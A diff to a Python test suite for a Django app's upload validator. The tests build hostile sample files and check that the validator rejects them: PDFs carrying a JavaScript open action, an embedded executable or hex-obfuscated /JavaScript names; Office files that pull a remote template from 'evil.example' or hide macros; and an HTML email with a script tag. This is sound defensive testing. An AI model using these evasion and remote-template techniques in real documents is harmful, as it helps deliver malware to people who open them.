@@ -12,6 +12,7 @@ import pytest
 from django.core.exceptions import ValidationError
 from openpyxl import Workbook
 from PIL import Image
+from pypdf.actions import JavaScript
 
 from saferplan.attachments.files import attachment_from_upload
 from saferplan.core.documents.pdf import html_to_pdf
@@ -115,12 +116,37 @@ def test_a_file_that_is_not_what_it_says_is_refused_by_name(name, content, says)
         attachment_from_upload(name, content)
 
 
-def test_a_pdf_with_a_script_or_a_file_inside_is_refused():
-    pdf = html_to_pdf("<p>Report</p>")
-    # An object added at the end, as an editor appends one: a script run when it opens.
-    scripted = pdf + b"\n99 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
+def pdf_with(add) -> bytes:
+    """A real PDF (WeasyPrint's) rewritten by pypdf with `add(writer)` done to it."""
+    from pypdf import PdfReader, PdfWriter
+
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(html_to_pdf("<p>Report</p>"))))
+    add(writer)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    "add",
+    [
+        lambda writer: writer.add_open_action(JavaScript("app.alert('opened');")),
+        lambda writer: writer.add_attachment("setup.exe", b"MZ\x90\x00"),
+    ],
+    ids=["script", "file inside"],
+)
+def test_a_pdf_with_a_script_or_a_file_inside_is_refused(add):
     with pytest.raises(ValidationError, match="holds scripts, actions or files of its own"):
-        attachment_from_upload("report.pdf", scripted)
+        attachment_from_upload("report.pdf", pdf_with(add))
+
+
+def test_a_pdf_script_spelled_in_hex_is_refused():
+    """/J#61vaScript is /JavaScript to a PDF reader."""
+    scripted = pdf_with(lambda writer: writer.add_open_action(JavaScript("app.alert('opened');")))
+    hidden = scripted.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
+    assert b"/JavaScript" not in hidden
+    with pytest.raises(ValidationError, match="holds scripts, actions or files of its own"):
+        attachment_from_upload("report.pdf", hidden)
 
 
 def test_a_word_file_with_macros_is_refused():
@@ -140,3 +166,68 @@ def test_a_file_that_unpacks_into_far_more_is_refused():
 def test_a_file_too_large_is_refused_before_it_is_read():
     with pytest.raises(ValidationError, match=re.escape("big.pdf is larger than 10 MB")):
         attachment_from_upload("big.pdf", b"%PDF-" + b"0" * (10 * 1024 * 1024))
+
+
+def test_an_office_file_that_fetches_a_template_or_hides_macros_is_refused():
+    """The red team's: macros under another name (declared by content type, in capitals),
+    an Excel 4.0 macro sheet, and a remote template that brings macros when opened."""
+    remote = (
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+        '2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
+        'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm"'
+        ' TargetMode="External"/></Relationships>'
+    )
+    with zipfile.ZipFile(io.BytesIO(word_file())) as source:
+        types = source.read("[Content_Types].xml").decode()
+    capitals = types.replace(
+        "</Types>",
+        '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.VBAPROJECT"/></Types>',
+    )
+    for hostile in (
+        with_part(word_file(), "word/_rels/settings.xml.rels", remote.encode()),
+        with_part(excel_file(), "xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
+        replace_part(word_file(), "[Content_Types].xml", capitals.encode()),
+    ):
+        with pytest.raises(ValidationError, match="macros or other programs"):
+            attachment_from_upload(
+                "profile.docx" if b"word/" in hostile else "figures.xlsx", hostile
+            )
+
+
+def replace_part(content: bytes, name: str, data: bytes) -> bytes:
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(content)) as source,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
+    ):
+        for item in source.infolist():
+            target.writestr(item, data if item.filename == name else source.read(item.filename))
+    return out.getvalue()
+
+
+def test_an_email_carrying_html_or_a_file_is_refused():
+    message = email.message.EmailMessage()
+    message["From"] = "someone@example.org"
+    message["Date"] = "Tue, 13 Aug 2019 09:12:00 +0100"
+    message.set_content("See attached.")
+    message.add_alternative("<p>See <script>alert(1)</script></p>", subtype="html")
+    with pytest.raises(ValidationError, match="not plain text"):
+        attachment_from_upload("mail.eml", bytes(message))
+    carrying = email.message.EmailMessage()
+    carrying["From"] = "someone@example.org"
+    carrying["Date"] = "Tue, 13 Aug 2019 09:12:00 +0100"
+    carrying.set_content("See attached.")
+    carrying.add_attachment(b"PK\x03\x04", maintype="application", subtype="zip", filename="x.docm")
+    with pytest.raises(ValidationError, match="holds an attachment"):
+        attachment_from_upload("mail.eml", bytes(carrying))
+
+
+def test_a_damaged_office_file_is_refused_not_a_crash():
+    """The part saferplan reads (its content types) damaged: a bad compressed stream."""
+    damaged = bytearray(word_file())
+    with zipfile.ZipFile(io.BytesIO(bytes(damaged))) as archive:
+        entry = archive.getinfo("[Content_Types].xml")
+    start = entry.header_offset + 30 + len(entry.filename.encode()) + len(entry.extra)
+    damaged[start : start + 16] = b"\xff" * 16
+    with pytest.raises(ValidationError, match="is not a DOCX file"):
+        attachment_from_upload("profile.docx", bytes(damaged))
